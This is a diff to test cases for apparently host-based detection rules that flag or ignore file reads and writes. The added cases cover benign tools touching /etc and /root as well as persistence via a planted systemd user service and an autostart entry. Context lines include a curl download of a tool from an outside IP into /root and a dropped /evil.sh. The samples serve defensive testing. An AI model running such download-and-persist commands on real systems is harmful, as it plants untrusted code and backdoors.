@@ -33,6 +33,7 @@ export const fileCases: RuleCases[] = [
       'a public key': openRead({ cmd: 'cat /home/alice/.ssh/id_rsa.pub', ...admin }, '/home/alice/.ssh/id_rsa.pub'),
       'the ssh client uses its key': openRead({ cmd: 'ssh git@github.com', ...admin, ancestors: ['git push', 'bash'] }, '/home/alice/.ssh/id_ed25519'),
       'a public host key': openRead({ cmd: 'cat /etc/ssh/ssh_host_ed25519_key.pub', ...admin }, '/etc/ssh/ssh_host_ed25519_key.pub'),
+      'etckeeper commits /etc before a package install': openRead({ cmd: 'git add -A', ancestors: ['etckeeper pre-install', 'sh -c etckeeper pre-install', 'apt-get install htop'] }, '/etc/shadow'),
     },
   },
   {
@@ -126,6 +127,7 @@ export const fileCases: RuleCases[] = [
       'reading a library': openRead({ cmd: 'ld -o app main.o', ...admin }, '/usr/lib/x86_64-linux-gnu/libc.so'),
       'a kernel package installs an initramfs': openWrite({ cmd: 'mkinitramfs -o /boot/initrd.img-6.1.0-18-amd64.new', ancestors: ['update-initramf -c -k 6.1.0-18-amd64', 'run-parts /etc/kernel/postinst.d', 'sh /var/lib/dpkg/info/linux-image.postinst', 'dpkg --configure'] }, '/boot/initrd.img-6.1.0-18-amd64.new'),
       'python caches bytecode': openWrite({ cmd: 'python3 -m http.server' }, '/usr/local/lib/python3.11/dist-packages/x/__pycache__/y.cpython-311.pyc'),
+      'locale-gen compiles the locale archive': openWrite({ cmd: 'localedef -i en_US -f UTF-8 en_US.UTF-8', ancestors: ['locale-gen', 'bash'] }, '/usr/lib/locale/locale-archive'),
     },
   },
   {
@@ -143,6 +145,9 @@ export const fileCases: RuleCases[] = [
       'ldconfig writes its cache': openWrite({ cmd: 'ldconfig' }, '/etc/ld.so.cache~'),
       'writing /etcd-data': openWrite({ cmd: 'etcd' }, '/etcd-data/member/wal/0.wal'),
       'reading /etc/hosts': openRead({ cmd: 'vim /etc/hosts' }, '/etc/hosts'),
+      'dhclient-script installs resolv.conf': openWrite({ cmd: 'cp /etc/resolv.conf.dhclient-new /etc/resolv.conf', ancestors: ['dhclient-script', 'dhclient -4 eth0', 'systemd'] }, '/etc/resolv.conf'),
+      'etckeeper\'s git writes /etc/.git': openWrite({ cmd: 'git commit -m saving', ancestors: ['etckeeper commit', 'apt-get install htop'] }, '/etc/.git/index.lock'),
+      'a cloud-init module writes /etc/hosts': openWrite({ cmd: 'python3 -m cloudinit.cmd.main', ancestors: ['cloud-init modules --mode config', 'systemd'] }, '/etc/hosts'),
     },
   },
   {
@@ -151,10 +156,14 @@ export const fileCases: RuleCases[] = [
       'tool dropped in /root': openWrite({ cmd: 'curl -o /root/.x http://203.0.113.7/x' }, '/root/.x'),
       'script dropped in /': openWrite({ cmd: 'bash', ancestors: ['sh', 'nginx'] }, '/evil.sh'),
       'root .bashrc changed': open({ cmd: 'bash', ancestors: ['sh -c', 'cron'] }, '/root/.bashrc', 'O_WRONLY|O_CREAT|O_APPEND'),
+      'a user service planted in ~/.config/systemd': openWrite({ cmd: 'cp x /root/.config/systemd/user/updater.service' }, '/root/.config/systemd/user/updater.service'),
+      'an autostart entry': openWrite({ cmd: 'python3 persist.py' }, '/root/.config/autostart/updater.desktop'),
     },
     quiet: {
       'shell history': open({ cmd: 'bash' }, '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'),
       'pip cache': openWrite({ cmd: 'python3 -m venv x' }, '/root/.cache/pip/http/a/b'),
+      'htop saves its settings': openWrite({ cmd: 'htop' }, '/root/.config/htop/htoprc'),
+      'kubectl discovery cache': openWrite({ cmd: 'kubectl get pods' }, '/root/.kube/cache/discovery/10.0.0.1_6443/v1/serverresources.json'),
       'a directory that only starts like /root': openWrite({ cmd: 'cp a /rootfs/a' }, '/rootfs/a'),
       'a user home directory': openWrite({ cmd: 'vim x', ...admin }, '/home/alice/x'),
     },
